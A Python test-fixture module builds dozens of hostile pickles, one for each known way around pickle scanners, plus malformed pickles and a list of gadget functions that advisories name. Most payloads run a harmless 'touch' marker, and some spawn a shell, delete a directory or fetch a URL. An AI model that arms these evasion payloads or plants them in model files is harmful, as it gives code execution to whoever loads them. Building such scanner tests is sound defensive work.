"""Hostile pickles, one per known way around pickle scanners. `FLAG` would appear if any of them ran.

Collected from public write-ups on picklescan, fickling, modelscan and PyTorch's weights-only unpickler.
Each is a complete pickle; `VERDICTS` of them must be "unneeded-calls", `DAMAGED` must be refused.
"""

from __future__ import annotations

import pickle
import struct
from pathlib import Path
from typing import Any

FLAG = "/tmp/bringup-attack-ran"
TOUCH = f"touch {FLAG}"


def text(value: str) -> bytes:
    """SHORT_BINUNICODE."""
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data


def named(module: str, name: str) -> bytes:
    """GLOBAL."""
    return f"c{module}\n{name}\n".encode()


def stacked(module: str, name: str) -> bytes:
    """STACK_GLOBAL."""
    return text(module) + text(name) + b"\x93"


def called(function: bytes, *arguments: bytes) -> bytes:
    """REDUCE."""
    return function + b"(" + b"".join(arguments) + b"tR"


class Reducing:
    """Pickles as the call that it is given."""

    def __init__(self, *reduced: Any) -> None:
        self.reduced = reduced

    def __reduce__(self) -> Any:
        return self.reduced


def _calls() -> dict[str, bytes]:
    system = named("os", "system")
    run = called(system, text(TOUCH))
    python = text(f"open({FLAG!r}, 'w')")
    return {
        "reduce": b"\x80\x02" + run + b".",
        "reduce_posix": called(named("posix", "system"), text(TOUCH)) + b".",
        "reduce_nt": called(named("nt", "system"), text(TOUCH)) + b".",
        "inst": b"(" + text(TOUCH) + b"ios\nsystem\n.",
        "obj": b"(" + system + text(TOUCH) + b"o.",
        "newobj": system + b"(" + text(TOUCH) + b"t\x81.",
        "newobj_class": stacked("subprocess", "Popen") + b"(" + text(TOUCH) + b"t\x81.",
        "newobj_ex": stacked("subprocess", "Popen") + b"(" + text(TOUCH) + b"t}\x92.",
        "build_setstate": named("os", "system") + b")\x81}" + text("x") + text(TOUCH) + b"sb.",
        "stack_global": b"\x80\x04" + called(stacked("os", "system"), text(TOUCH)) + b".",
        "stack_global_from_memo": text("os") + b"\x94" + text("system") + b"\x940" + b"0" + b"h\x00h\x01\x93"
        + b"(" + text(TOUCH) + b"tR.",
        "stack_global_by_dup": text("os") + b"2" + b"0" + text("system") + b"\x93(" + text(TOUCH) + b"tR.",
        "stack_global_put_twice": text("json") + b"q\x000" + text("os") + b"q\x000h\x00" + text("system")
        + b"\x93(" + text(TOUCH) + b"tR.",
        "protocol_0": b"cos\nsystem\n(S'" + TOUCH.encode() + b"'\ntR.",
        "protocol_0_unicode": b"cos\nsystem\n(V" + TOUCH.encode() + b"\ntR.",
        "no_protocol_byte": run + b".",
        "late_protocol_byte": b"N0\x80\x05" + run + b".",
        "frame_too_short": b"\x80\x04\x95\x01\0\0\0\0\0\0\0" + run + b".",
        "result_thrown_away": run + b"0}" + text("w") + b"K\x01s.",
        "after_an_exception": run + b"0" + called(named("builtins", "int"), text("x")) + b".",
        "python_2_builtins": called(named("__builtin__", "eval"), python) + b".",
        "python_2_execfile": called(named("__builtin__", "execfile"), text("x.py")) + b".",
        "python_2_commands": called(named("commands", "getoutput"), text(TOUCH)) + b".",
        "eval": called(named("builtins", "eval"), python) + b".",
        "exec": called(named("builtins", "exec"), python) + b".",
        "compile": called(named("builtins", "compile"), python, text("x"), text("exec")) + b".",
        "import": called(named("builtins", "__import__"), text("os")) + b".",
        "getattr_of_a_module": called(
            called(named("builtins", "getattr"), called(named("importlib", "import_module"), text("os")),
                   text("system")), text(TOUCH)) + b".",
        "getattr_on_a_class": called(
            called(named("builtins", "getattr"), named("torch.hub", "Hub"), text("load")), text("x")) + b".",
        "getattr_dunder": called(
            named("builtins", "getattr"), named("collections", "OrderedDict"), text("__globals__")) + b".",
        "dotted_name": called(
            stacked("collections", "OrderedDict.__init__.__globals__.__getitem__"), text("os")) + b".",
        "dotted_through_harmless": called(stacked("torch", "Size.__class__.__base__.__subclasses__")) + b".",
        "operator_attrgetter": called(called(named("operator", "attrgetter"), text("system")), run) + b".",
        "operator_methodcaller": called(named("operator", "methodcaller"), text("system"), text(TOUCH)) + b".",
        "getitem_of_globals": called(
            named("operator", "getitem"), called(named("builtins", "globals")), text("os")) + b".",
        "functools_partial": called(called(named("functools", "partial"), system, text(TOUCH))) + b".",
        "functools_reduce": called(named("functools", "reduce"), system, b"(" + text(TOUCH) + b"l") + b".",
        "map": called(named("builtins", "map"), system, b"(" + text(TOUCH) + b"l") + b".",
        "defaultdict_factory": called(named("collections", "defaultdict"), system) + b".",
        "type_with_three_arguments": called(named("builtins", "type"), text("X"), b")", b"}") + b".",
        "copyreg_reconstructor": called(
            named("copy_reg", "_reconstructor"), stacked("subprocess", "Popen"), named("builtins", "object"), b"N"
        ) + b".",
        "copyreg_newobj": called(named("copyreg", "__newobj__"), stacked("subprocess", "Popen"), text("x")) + b".",
        "copyreg_add_extension": called(
            named("copyreg", "add_extension"), text("os"), text("system"), b"K\x01") + b"0\x82\x01.",
        "extension_1": b"\x82\x01(" + text(TOUCH) + b"tR.",
        "extension_2": b"\x83\x01\x01(" + text(TOUCH) + b"tR.",
        "extension_4": b"\x84\x01\x01\x00\x00(" + text(TOUCH) + b"tR.",
        "subprocess": pickle.dumps(Reducing(__import__("subprocess").getoutput, (TOUCH,))),
        "pty": called(named("pty", "spawn"), text("sh")) + b".",
        "runpy": called(named("runpy", "_run_code"), text("x"), b"}") + b".",
        "code_interact": called(named("code", "InteractiveInterpreter")) + b".",
        "timeit": called(named("timeit", "timeit"), python) + b".",
        "profile": called(named("cProfile", "run"), python) + b".",
        "pdb": called(named("pdb", "run"), python) + b".",
        "pydoc": called(named("pydoc", "pipepager"), text("x"), text(TOUCH)) + b".",
        "bdb": called(named("bdb", "Bdb")) + b".",
        "doctest": called(named("doctest", "debug_script"), python) + b".",
        "idlelib": called(named("idlelib.run", "Executive")) + b".",
        "lib2to3": called(named("lib2to3.pgen2.pgen", "ParserGenerator"), text("x")) + b".",
        "logging_config": called(named("logging.config", "_resolve"), text("os.system")) + b".",
        "asyncio": called(named("asyncio.unix_events", "_UnixSubprocessTransport")) + b".",
        "ctypes": called(named("ctypes", "CDLL"), text("libc.so.6")) + b".",
        "webbrowser": called(named("webbrowser", "open"), text("http://example.org")) + b".",
        "urllib": called(named("urllib.request", "urlopen"), text("http://example.org")) + b".",
        "socket": called(named("socket", "socket")) + b".",
        "ssl": called(named("ssl", "get_server_certificate"), text("x")) + b".",
        "shutil": called(named("shutil", "rmtree"), text("/nonexistent")) + b".",
        "builtin_open": called(named("io", "open"), text(FLAG), text("w")) + b".",
        "file_write": called(named("pathlib", "Path.write_text"), text(FLAG)) + b".",
        "marshal_code": called(named("types", "FunctionType"), called(named("marshal", "loads"), text("x")), b"}")
        + b".",
        "pickle_in_a_pickle": called(named("pickle", "loads"), b"C\x04N...") + b".",
        "pickle_c_in_a_pickle": called(named("_pickle", "loads"), b"C\x04N...") + b".",
        "torch_load": called(named("torch", "load"), text("evil.pt")) + b".",
        "torch_serialization_load": called(named("torch.serialization", "load"), text("evil.pt")) + b".",
        "torch_hub": called(named("torch.hub", "load"), text("a/b"), text("c")) + b".",
        "torch_jit": called(named("torch.jit", "load"), text("evil.pt")) + b".",
        "torch_jit_unpickle": called(named("torch.jit.unsupported_tensor_ops", "execWrapper"), python, b"}", b"}")
        + b".",
        "torch_extension": called(named("torch.utils.cpp_extension", "load_inline"), text("x")) + b".",
        "torch_bottleneck": called(named("torch.utils.bottleneck.__main__", "run_cprofile"), python, b"}") + b".",
        "torch_collect_env": called(named("torch.utils.collect_env", "run"), text(TOUCH)) + b".",
        "torch_inductor": called(
            named("torch._inductor.runtime.compile_tasks", "_reload_python_module"), text("x")) + b".",
        "torch_dynamo": called(named("torch._dynamo.guards", "GuardBuilder.get"), python) + b".",
        "torch_fx": called(named("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"),
                           python) + b".",
        "numpy_runstring": called(named("numpy.testing._private.utils", "runstring"), python, b"}") + b".",
        "numpy_f2py": called(named("numpy.f2py.crackfortran", "getlincoef"), python, b"}") + b".",
        "numpy_load": called(named("numpy", "load"), text("evil.npy")) + b".",
        "pandas": called(named("pandas", "read_pickle"), text("evil.pkl")) + b".",
        "joblib": called(named("joblib", "load"), text("evil.pkl")) + b".",
        "dill": called(named("dill._dill", "_create_function"), text("x")) + b".",
        "cloudpickle": called(named("cloudpickle.cloudpickle", "_make_function"), text("x")) + b".",
        "pip_main": called(named("pip", "main"), b"(" + text("install") + text("evil") + b"l") + b".",
        "an_unknown_function": called(named("some_package.module", "helper"), text("x")) + b".",
        "method_of_an_object": called(
            called(named("builtins", "getattr"), named("a", "B") + b")\x81", text("run"))) + b".",
        "surrogate_names": called(named("os", "system") + b"0" + stacked("os", "system"), text(TOUCH)) + b".",
        "magic_number_by_a_call": called(named("builtins", "int"), text("119547037146038801333356"))
        + b"." + pickle.dumps(1001, 2) + pickle.dumps({}, 2) + run + b".",
        "second_pickle": pickle.dumps(0x1950A86A20F9469CFC6C, 0) + b"K\x01." + run + b".",
        "load_from_bytes_of_encoded_text": called(
            named("torch.storage", "_load_from_bytes"),
            called(named("_codecs", "encode"), text(f"cos\nsystem\n(V{TOUCH}\ntR."), text("utf-8"))) + b".",
        "rebuilt_by_a_function_of_others": called(
            named("torch._tensor", "_rebuild_from_type_v2"), named("some_package.module", "helper"),
            named("torch", "Tensor"), b"(" + text(TOUCH) + b"t", b"}") + b".",
        "rebuilt_with_a_number": called(
            named("torch._tensor", "_rebuild_from_type_v2"), named("builtins", "getattr"),
            named("torch", "Tensor"), b"K\x01", b"}") + b".",
        "rebuilt_by_a_rebuilder": called(
            named("torch._tensor", "_rebuild_from_type_v2"), named("torch._tensor", "_rebuild_from_type_v2"),
            named("torch", "Tensor"), b")", b"}") + b".",
        "generator_made_by_a_function_of_others": called(
            named("numpy.random._pickle", "__randomstate_ctor"), text(TOUCH),
            named("some_package.module", "helper")) + b".",
        "class_lent_by_a_module": called(named("some_package.module", "Popen"), text(TOUCH)) + b".",
        "class_through_a_module": b"\x80\x04" + called(
            stacked("some_package.module", "subprocess.Popen"), text(TOUCH)) + b".",
        "module_as_an_object": called(called(
            named("builtins", "getattr"), named("torch.serialization", "os"), text("system")), text(TOUCH)) + b".",
        "any_name": called(called(named("pkgutil", "resolve_name"), text("os:system")), text(TOUCH)) + b".",
        "deep_in_a_state": b"}" + text("state_dict") + b"}" + text("w") + run + b"ss.",
        "as_a_key": b"}" + run + b"K\x01s.",
        "in_a_persistent_id": run + b"Q.",
        "main_module": called(named("__main__", "__builtins__.eval"), python) + b".",
        "sys_modules": called(named("sys", "modules.get"), text("os")) + b".",
        "signal": called(named("signal", "signal")) + b".",
        "atexit": called(named("atexit", "register"), system, text(TOUCH)) + b".",
        "threading_thread": stacked("threading", "Thread") + b")\x81.",
        "site": called(named("site", "execsitecustomize")) + b".",
        "venv": called(named("venv", "create"), text("/nonexistent")) + b".",
        "ensurepip": called(named("ensurepip", "_run_pip"), text("x")) + b".",
        "distutils": called(named("distutils.file_util", "write_file"), text(FLAG)) + b".",
    }  # fmt: skip


CALLS = _calls()
AFTER_THE_FIRST_PICKLE = ("magic_number_by_a_call", "second_pickle")
"""Archives hold one pickle; what stands behind it there is never read, by PyTorch neither."""

_LONG = struct.pack("<Q", 2**62)
DAMAGED: dict[str, bytes] = {
    "empty_stack": b"\x80\x02.",
    "pop_of_nothing": b"\x80\x020.",
    "no_stop": b"\x80\x02N",
    "no_mark": b"\x80\x02Nt.",
    "missing_memo": b"\x80\x02h\x07.",
    "negative_memo": b"(p-1\n.",
    "unknown_opcode": b"\x80\x02\xff.",
    "future_protocol": b"N0\x80\x09N.",
    "giant_string": b"\x80\x04\x8d" + _LONG + b"x.",
    "giant_bytes": b"\x80\x04\x8e" + _LONG + b"x.",
    "giant_bytearray": b"\x80\x05\x96" + _LONG + b"x.",
    "giant_frame": b"\x80\x04\x95" + _LONG + b"N.",
    "giant_long": b"\x80\x02\x8b" + struct.pack("<i", 2**31 - 1) + b"\x01.",
    "negative_long": b"\x80\x02\x8b" + struct.pack("<i", -5) + b"\x01.",
    "negative_string": b"\x80\x02T" + struct.pack("<i", -5) + b"x.",
    "long_of_many_bytes": b"\x80\x02\x8b" + struct.pack("<i", 50_000) + b"\x7f" * 50_000 + b".",
    "decimal_of_many_digits": b"(L" + b"9" * 50_000 + b"L\n.",
    "endless_line": b"(S'" + b"a" * 200_000 + b"'\n.",
    "float_text": b"(Fabc\n.",
    "int_text": b"(I0x10\n.",
    "unquoted_string": b"(Sabc\n.",
    "bad_escape": b"(S'\\x4'\n.",
    "not_utf8": b"\x80\x02X\x02\0\0\0\xff\xfe.",
    "list_as_key": b"\x80\x02}]Ns.",
    "list_in_a_set": b"\x80\x04\x8f(]\x90.",
    "tuple_of_list_in_a_frozenset": b"\x80\x04(]\x85\x91.",
    "append_to_a_tuple": b"\x80\x02)Na.",
    "items_of_a_list": b"\x80\x02]NNs.",
    "odd_items": b"\x80\x02}(Nu.",
    "build_of_a_number": b"\x80\x02K\x01}b.",
    "arguments_are_a_list": b"\x80\x02cos\nsystem\n]R.",
    "names_are_numbers": b"\x80\x04K\x01K\x02\x93.",
    "name_is_a_list": b"\x80\x04]]\x93.",
    "nested_key": b"\x80\x02}" + b")" + b"\x85" * 100_000 + b"Ns.",
    "doubling_key": b"\x80\x02}" + b")" + b"2\x86" * 40 + b"Ns.",
    "obj_without_class": b"\x80\x02(o.",
}


_ADVISORIES = """
    uuid._get_command_stdout imaplib.IMAP4_stream _osx_support._read_output _aix_support._read_cmd_output
    _pyrepl.pager.pipe_pager _posixsubprocess.fork_exec multiprocessing.util.spawnv_passfds _interpreters.run_string
    _xxsubinterpreters.run_string imp.load_source pipes.Template profile.Profile.run cProfile.runctx trace.Trace.run
    pdb.run bdb.Bdb.run linecache.getline zipimport.zipimporter shelve.open sqlite3.connect tempfile.mkstemp
    http.client.HTTPSConnection smtplib.SMTP ftplib.FTP xmlrpc.client.ServerProxy tkinter.Tcl readline.read_init_file
    faulthandler._sigsegv gc.get_objects weakref.finalize contextlib.ExitStack.callback types.CodeType marshal.loads
    idlelib.pyshell.ModifiedInterpreter.runcode idlelib.autocomplete.AutoComplete.get_entity
    idlelib.calltip.get_entity idlelib.debugobj.ObjectTreeItem.SetText lib2to3.pgen2.grammar.Grammar.loads
    importlib.machinery.SourceFileLoader importlib._bootstrap._load importlib.reload _io.open_code nturl2path.open
    asyncio.base_subprocess.BaseSubprocessTransport concurrent.futures.ProcessPoolExecutor
    torch.jit._script.RecursiveScriptModule._construct torch.utils._config_module.load_config
    torch.utils.data.datapipes.utils.decoder.basichandlers torch.distributed.run.main torch.from_file
    torch.package.package_importer.PackageImporter torch.ops.load_library torch._C._jit_pass_inline
    torch.UntypedStorage.from_file torch.serialization.add_safe_globals torch.utils.model_zoo.load_url
    numpy.fromfile numpy.memmap numpy.testing.rundocs numpy.f2py.crackfortran._eval_length
    numpy.f2py.crackfortran.param_eval numpy.ctypeslib.load_library numpy.distutils.exec_command.exec_command
    pandas.io.parsers.readers.read_csv pandas.eval mlflow.projects.backend.local._run_entry_point
    sklearn.utils._testing.check_docstring_parameters cloudpickle.loads dill.loads joblib.load yaml.unsafe_load
    keras.utils.get_file transformers.dynamic_module_utils.get_class_from_dynamic_module
    matplotlib.os.system
"""
GADGETS = _ADVISORIES.split()
"""Functions that advisories on scanners name as ways around them."""


def write_all(folder: Path) -> list[Path]:
    """Every attack as a file."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for name, data in (CALLS | DAMAGED).items():
        paths.append(folder / f"{name}.pkl")
        paths[-1].write_bytes(data)
    return paths
